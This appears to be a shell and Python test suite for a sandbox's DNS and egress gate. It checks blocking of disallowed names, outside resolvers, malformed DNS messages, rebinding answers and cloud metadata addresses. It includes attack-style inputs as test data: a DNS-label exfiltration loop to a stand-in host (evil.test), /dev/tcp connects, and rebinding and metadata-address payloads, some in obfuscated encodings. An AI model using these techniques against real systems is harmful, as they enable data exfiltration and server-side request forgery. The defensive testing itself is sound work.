# Names of a box with a policy: what is not allowed is never asked outside (A1, A2), only addresses are ever asked for
# (A3), random names below a star are few (A4), other resolvers (A5), broken messages (A6), answers that lead inside
# (A7, A8), addresses that are never allowed (A9).
# wall: gate_decide before any question leaves; DNS messages are read strictly; every address is classed before connect
. test/lib/world.sh
. test/lib/gate_lab.sh
if lab_start; then
    look() { in_box getent ahostsv4 "$1" | awk 'NR == 1 { print $1 }'; }
    # A1
    is 'A1: an allowed name resolves' "$(look pypi.test)" 93.184.0.10
    world_forget
    now_ms
    before=$NOW
    is 'A1: one that is not allowed does not' "$(look evil.test)" ''
    now_ms
    between 'A1: at once' $((NOW - before)) 0 200
    is 'A1: nothing leaves' "$(world_dns; world_tcp)" ''
    like 'A1: a row says so' "$(lab_rows '"\(.kind) \(.denied) \(.name) \(.method) \(.why)"')" \
        '^1 1 evil\.test A default'
    # A2, A3, A6: messages by hand
    cat > "$WORK/ask.py" << 'PY'
import socket, struct, sys
def name(text): return b"".join(bytes([len(l)]) + l.encode() for l in text.split(".")) + b"\0"
head = b"\x12\x34\1\0\0\1" + bytes(6)
def query(text, kind=1, klass=1, count=1):
    return b"\x12\x34\1\0" + struct.pack(">H", count) + bytes(6) + name(text) + struct.pack(">HH", kind, klass)
def ask(data, server="127.0.0.53", tcp=False):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
        s.settimeout(1.5); s.connect((server, 53))
        s.sendall((struct.pack(">H", len(data)) if tcp else b"") + data)
        got = s.recv(4096)[2 if tcp else 0:]
    except socket.timeout: return "none"
    except OSError as e: return e.strerror
    return "%d %d" % (got[3] & 15, struct.unpack(">H", got[6:8])[0]) if len(got) >= 12 else "closed"
what = sys.argv[1]
if what == "exfiltrate":
    codes = set()
    for i in range(400): codes.add(ask(query("x%032x.evil.test" % i), "8.8.8.8" if i % 2 else "127.0.0.53"))
    codes.add(ask(query("tcp.evil.test"), "8.8.8.8", True)); codes.add(ask(query("tcp.evil.test"), tcp=True))
    print(sorted(codes))
elif what == "types":
    print(sorted({ask(query("pypi.test", kind)) for kind in (16, 15, 10, 255, 33, 65, 64, 12, 28)}),
        ask(query("version.bind", 16, 3)))
elif what == "tcp": print(ask(query("pypi.test"), tcp=True), ask(query("pypi.test"), "8.8.8.8", True))
elif what == "broken":
    good = query("pypi.test")
    cases = [query("pypi.test", count=2), query("pypi.test", count=0), head + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
        query(".".join(["a" * 60] * 5)), head + b"\xc0\x0c\0\1\0\1", head + b"\x09pypi.test\0\0\1\0\1",
        head + b"\4py\0i\4test\0\0\1\0\1", good[:-1], good + b"x"]
    print([ask(c) for c in cases])
elif what == "budget":
    codes = [ask(query("r%d.hub.test" % i)) for i in range(300)]
    print(codes.count("0 1"), codes.count("2 0"))
PY
    ask() { in_box python3 "$WORK/ask.py" "$@"; }
    world_forget
    is 'A2: data in labels, through any resolver' "$(ask exfiltrate)" "['3 0']"
    is 'A2: nothing leaves' "$(world_dns; world_tcp)" ''
    between 'A2: rows are few' "$(lab_rows .count | wc -l)" 1 60
    is 'A3: other types of an allowed name are empty' "$(ask types)" "['0 0'] 4 0"
    is 'A3: and only addresses are asked for' "$(world_dns | grep -v ' 1$')" ''
    is 'A3: over TCP as well' "$(ask tcp)" '0 1 0 1'
    is 'A6: broken messages' "$(ask broken)" "['1 0', '1 0', '1 0', '1 0', '1 0', '1 0', '1 0', '1 0', '1 0']"
    world_forget
    read -r answered refused <<< "$(ask budget)"
    between 'A4: a budget of new names below a star' "$answered" 90 125
    is 'A4: the rest fails' $((answered + refused)) 300
    between 'A4: and was not asked' "$(world_dns | wc -l)" 90 125
    is 'A4: other names resolve meanwhile' "$(look git.test)" 93.184.0.13
    lab '{"rows": true}'
    # A5
    in_port() { in_box timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2 && head -c1 <&3" 2>&1; }
    world_forget
    like 'A5: DNS over TLS' "$(in_port 8.8.8.8 853)" 'refused|reset'
    is 'A5: DNS over HTTPS, by address' "$(in_box python3 test/lib/hello.py 8.8.8.8 443)" 'alert 112'
    is 'A5: and by name' "$(in_box python3 test/lib/hello.py 8.8.8.8 443 sni=dns.google)" 'alert 112'
    for port in 853 5353 5355; do
        is "A5: UDP $port" "$(in_box python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('8.8.8.8', $port)); s.send(b'x')
try: print(s.recv(10))
except OSError as e: print(e.strerror)")" 'Connection refused'
    done
    is 'A5: nothing leaves' "$(world_tcp)" ''
    # A7
    zone() { jq -c ". + $1" "$WORLD/zone.json" > "$WORLD/zone.next" && mv "$WORLD/zone.next" "$WORLD/zone.json"; }
    n=0
    for address in 127.0.0.1 10.9.9.9 169.254.169.254 0.0.0.0 168.63.129.16; do
        n=$((n + 1))
        zone "{\"r$n.hub.test\": {\"a\": [\"$address\"], \"ttl\": 0}}"
    done
    zone '{"r6.hub.test": {"aaaa": ["::1", "::ffff:127.0.0.1", "64:ff9b::7f00:1"]}}'
    zone '{"r7.hub.test": {"a": ["10.9.9.9", "93.184.0.11", "127.0.0.1"]}}'
    lab "{\"drop\": true}" && lab "{\"put\": $LAB_POLICY}"
    world_forget
    for n in 1 2 3 4 5 6; do
        is "A7: r$n.hub.test leads inside" "$(look "r$n.hub.test")" ''
    done
    is 'A7: of a mixed answer the public one' "$(in_box getent ahostsv4 r7.hub.test | awk '{ print $1 }' | sort -u)" \
        93.184.0.11
    in_box curl -s -m 5 -o /dev/null http://r2.hub.test/ --resolve r2.hub.test:80:93.184.0.11
    is 'A7: none is dialed' "$(world_tcp)" ''
    like 'A7: rows say rebind' "$(lab_rows .why)" rebind
    # A8
    zone '{"r8.hub.test": {"a": ["93.184.0.11"], "ttl": 0, "next": {"a": ["169.254.169.254"], "ttl": 0}}}'
    is 'A8: public at the look-up' "$(look r8.hub.test)" 93.184.0.11
    in_box curl -s -m 5 -k -o /dev/null https://r8.hub.test/ --resolve r8.hub.test:443:93.184.0.11
    isnt 'A8: metadata at the connect: refused' $? 0
    is 'A8: and never dialed' "$(world_tcp | grep 169.254)" ''
    # A9
    for address in 169.254.169.254 168.63.129.16 100.100.100.200 ::ffff:169.254.169.254 2852039166 0xa9fea9fe \
        0251.0376.0251.0376; do
        like "A9: $address" "$(in_box python3 -c "
import socket
try:
    s = socket.create_connection(('$address', 80), 3); s.send(b'GET / HTTP/1.1\r\nHost: x.test\r\n\r\n')
    print(s.recv(20))
except OSError as e: print(e.strerror)")" 'refused|reset|unreachable'
    done
    like 'A9: fd00:ec2::254' "$(in_box curl -sS -m 3 'http://[fd00:ec2::254]/' 2>&1)" 'curl: \(7\)'
    is 'A9: nothing leaves' "$(world_tcp)" ''
else
    fail 'the lab starts' "$(cat "$WORK/lab/errors")"
fi
lab_end
